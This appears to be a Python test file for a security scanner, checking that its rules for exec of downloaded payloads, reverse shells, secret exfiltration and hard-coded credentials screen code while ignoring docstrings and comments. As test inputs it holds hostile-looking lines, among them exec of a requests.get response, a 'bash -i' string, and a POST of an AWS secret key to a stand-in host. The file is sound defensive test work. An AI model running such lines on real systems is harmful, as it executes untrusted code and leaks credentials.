"""Code screens: a rule's pre-screen asked again, as its tree screen, of the code alone (no docstrings or comment lines)."""

from __future__ import annotations

import ast
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from datasec_scan import engine
from datasec_scan.config import Config
from datasec_scan.plugins import RuleSet, discover
from datasec_scan.rule import Rule
from rules._prescreen import CodeView, View, code_text
from rules.credential_passed_to_auth_api import CredentialPassedToAuthApi
from rules.exec_of_untrusted_payload import ExecOfUntrustedPayload
from rules.reverse_shell import ReverseShell
from rules.sensitive_data_to_network import SensitiveDataToNetwork

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
TREE_SCREENED = [r for r in discover().rules if issubclass(r, Rule) and r.screens_tree()]


def _identifiers(tree: ast.AST) -> set[str]:
    """Every name written in the code: what a rule's name resolution can start from."""
    found: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            found.add(node.id)
        elif isinstance(node, ast.Attribute):
            found.add(node.attr)
        elif isinstance(node, ast.alias):
            found.update(node.name.split("."))
            found.update([node.asname] if node.asname else [])
        elif isinstance(node, ast.ImportFrom) and node.module:
            found.update(node.module.split("."))
        elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            found.add(node.name)
        elif isinstance(node, ast.arg):
            found.add(node.arg)
        elif isinstance(node, ast.keyword) and node.arg:
            found.add(node.arg)
    return found


def test_code_text_leaves_out_docstrings_and_comment_lines_only() -> None:
    code = ('"""Module: calls exec on subprocess output."""\nimport os  # trailing note stays\n'
            "# eval(payload) in a comment line\n"
            'def f():\n    """Runs marshal."""\n    x = "pickle in a string stays"\n    return os.getcwd()\n'
            'class C:\n    "cls doc: popen"\n    y = 1\n')
    words = CodeView(code, ast.parse(code)).words
    assert {"os", "trailing", "pickle", "getcwd", "f", "x", "C", "y"} <= words
    assert not words & {"exec", "subprocess", "eval", "payload", "marshal", "popen"}


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_code_text_finds_string_statements_after_non_ascii_text_on_any_line_ending(newline: str) -> None:
    code = newline.join(['név = "é"; "doc: exec"', "if név:", '    "more: eval"; y = 1', "z = 2", ""])
    text = code_text(code, ast.parse(code))
    assert "exec" not in text and "eval" not in text
    assert {"név", "y", "z"} <= CodeView(code, ast.parse(code)).words


FRAGMENTS = (
    '"""doc: exec(x)"""\n', "# subprocess.call(cmd)\n", "import os as o  # note: eval\n", "o.system(cmd)\n",
    "s = '''\n# not a comment: line inside a string\nimport_me = 1\n'''\n", "t = \"a # b\"; u = t\n",
    "def g(a, *, key=None):\n    'doc: pickle'\n    return a.loads(key)\n", "x = (1,\n     # inside brackets\n     2)\n",
    "w = 1 + \\\n    2\n", "from pkg.mod import name as other\n", "ｅｘｅｃ(v)\n", "f'{q}' # exec\n",
    "class K(Base):\n    '''K doc: marshal'''\n    attr: int = 0\n", "if c:\n    'str stmt: popen'\nelse:\n    pass\n",
    "try:\n    pass\nexcept E as err:\n    'doc: exec'\n    raise\n", "b'bytes stmt: exec'\n", "lam = lambda p: p\n",
)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8), st.sampled_from(["\n", "\r\n"]))
@example(["s = '''\n# not a comment: line inside a string\nimport_me = 1\n'''\n"], "\n")
def test_every_name_in_the_code_is_a_word_of_the_code_view(fragments: list[str], newline: str) -> None:
    code = "".join(fragments).replace("\n", newline)
    tree = ast.parse(code)
    assert _identifiers(tree) <= CodeView(code, tree).words, code


def _examples(rule: type[Rule]) -> list[str]:
    return [e if isinstance(e, str) else e.code for e in rule.INVALID]


@pytest.mark.parametrize("rule", TREE_SCREENED, ids=lambda r: r.code)
def test_tree_screens_hold_on_every_invalid_example_and_keep_every_fixture_finding(rule: type[Rule]) -> None:
    for code in _examples(rule):
        assert rule.triggered_by_tree(ast.parse(code), code), code
    unscreened = type("Unscreened", (rule,), {"triggered_by_tree": classmethod(lambda c, t, x: True)})
    fixtures = sorted(FIXTURES.glob(f"{rule.__module__.rsplit('.', 1)[-1]}*.py"))
    assert fixtures, f"{rule.code} has no Python fixture"
    for fixture in fixtures:
        data = fixture.read_bytes()

        def found(r: type[Rule]) -> list[tuple]:
            result = engine.scan_file(fixture.name, data, RuleSet((r,), (("test", "0"),)), Config())
            return [(f.rule, f.location.line, f.message) for f in result.findings]

        assert found(rule) == found(unscreened), fixture.name


def test_names_in_docstrings_and_comments_alone_spare_the_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[str] = []
    original = engine.parse_python
    monkeypatch.setattr(engine, "parse_python", lambda source: parsed.append(source) or original(source))
    ruleset = RuleSet((ExecOfUntrustedPayload,), (("test", "0"),))
    quiet = '"""Never exec what requests.get returns."""\n# exec(requests.get(url).text)\nx = 1\n'
    assert ExecOfUntrustedPayload.applies_to("a.py", quiet)
    assert engine.scan_file("a.py", quiet.encode(), ruleset, Config()).findings == () and parsed == []
    loud = "import requests\nexec(requests.get('https://example.com/p').text)\n"
    assert [f.rule for f in engine.scan_file("b.py", loud.encode(), ruleset, Config()).findings] == ["DS101"]
    assert parsed == [loud]


def test_a_reduced_scan_gate_read_in_comments_still_holds() -> None:
    # libcst refuses the long chain, so DS102's reduced scan runs: it needs `socket` somewhere in the text (here only
    # in a comment) and reports the one-liner in the string. The code view alone would have dropped the rule.
    code = "# talks to a socket\nCMD = 'bash -i'\nx = 1 + 1 + 1 + 1 + 1 + 1\n"
    assert not ReverseShell.screen(View(code.split("\n", 1)[1]))
    assert ReverseShell.triggered_by_tree(ast.parse(code), code)
    short = Config(limits=replace(Config().limits, max_expression_chain=4))
    result = engine.scan_file("c.py", code.encode(), RuleSet((ReverseShell,), (("test", "0"),)), short)
    assert [(f.rule, f.location.line) for f in result.findings] == [("DS102", 2)]


@pytest.mark.parametrize(("rule", "quiet", "loud"), [
    (SensitiveDataToNetwork,
     '"""Usage:\n\nimport requests\nrequests.post(URL, data=secret)\n"""\nx = 1\n',
     "import os, requests\nrequests.post('https://example.com/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"),
    (CredentialPassedToAuthApi,
     '# import smtplib\n# s.login("bot", "Tr0ub4dor&3x")\nx = 1\n',
     'import smtplib\ns = smtplib.SMTP("mail.example.com")\ns.login("bot", "Tr0ub4dor&3x")\n'),
])
def test_text_screens_asked_of_the_code_alone(rule: type[Rule], quiet: str, loud: str) -> None:
    assert rule.triggered_by(quiet) and not rule.triggered_by_tree(ast.parse(quiet), quiet)
    assert rule.triggered_by_tree(ast.parse(loud), loud)
    result = engine.scan_file("d.py", loud.encode(), RuleSet((rule,), (("test", "0"),)), Config())
    assert [f.rule for f in result.findings] == [rule.code]
